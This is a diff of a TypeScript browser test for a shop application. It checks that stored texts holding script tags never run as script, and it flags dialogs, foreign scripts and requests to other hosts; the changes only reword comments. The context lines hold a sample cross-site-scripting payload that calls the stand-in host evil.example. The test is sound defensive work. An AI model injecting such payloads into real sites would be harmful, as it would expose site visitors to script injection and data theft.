@@ -10,7 +10,7 @@ import { makeOrder, makeProduct, makeUser } from '#shop/testing/factories.ts'
 import { startTestApp, type TestApp } from '#shop/testing/test-app.ts'
 import { openBrowser } from './browser.ts'
 
-/** What each would do if it ran: something that this test notices. */
+/** What each script would do if it ran, which this test would notice. */
 const act = "alert(1);fetch('https://evil.example/x')"
 const tags = [
   'img src=x',
@@ -95,7 +95,7 @@ after(async () => {
   await shop?.close()
 })
 
-/** Straight into the tables, so that not even what is refused today is missing. */
+/** Writes directly to the tables, so that even texts that are refused today are there. */
 async function fillWithScripts(): Promise<string> {
   const { db } = shop.database
   const product = await makeProduct(db, { name: texts[64] ?? '', description: texts.join('\n') })
@@ -116,7 +116,7 @@ async function fillWithScripts(): Promise<string> {
       userId: id,
       rating: 3,
       comment: username,
-      // The page shows the newest hundred: which these are must not be chance.
+      // The page shows the newest hundred. Which these are must not depend on chance.
       createdAt: new Date(Date.now() - 1000 * index),
     })),
   )
@@ -134,7 +134,7 @@ async function fillWithScripts(): Promise<string> {
   return product.id
 }
 
-/** A browser with this session that fails on a dialog, on a script of others, and on a call to anybody else. */
+/** A page with this session. `happened` records dialogs, foreign scripts and requests to other hosts. */
 async function watchedPage(person: Awaited<ReturnType<typeof makeUser>> | undefined) {
   const context = await browser.newContext({ baseURL: shop.config.publicUrl, reducedMotion: 'reduce' })
   if (person) {
@@ -159,10 +159,10 @@ async function watchedPage(person: Awaited<ReturnType<typeof makeUser>> | undefi
   return { page, context, happened }
 }
 
-/** Elements that no page of ours has, wherever they come from. */
+/** Elements that none of our pages has, wherever they come from. */
 const foreignElements = (page: Page) =>
   page.evaluate(() => {
-    // What a page is made of, and what search engines read, is data: no browser runs it.
+    // The JSON of a page's data and of JSON-LD is never run by a browser.
     const isData = ({ type }: HTMLScriptElement) => /^application\/(ld\+)?json$/.test(type)
     const scripts = [...document.scripts].filter(
       (script) => !script.src.startsWith(location.origin) && !isData(script),
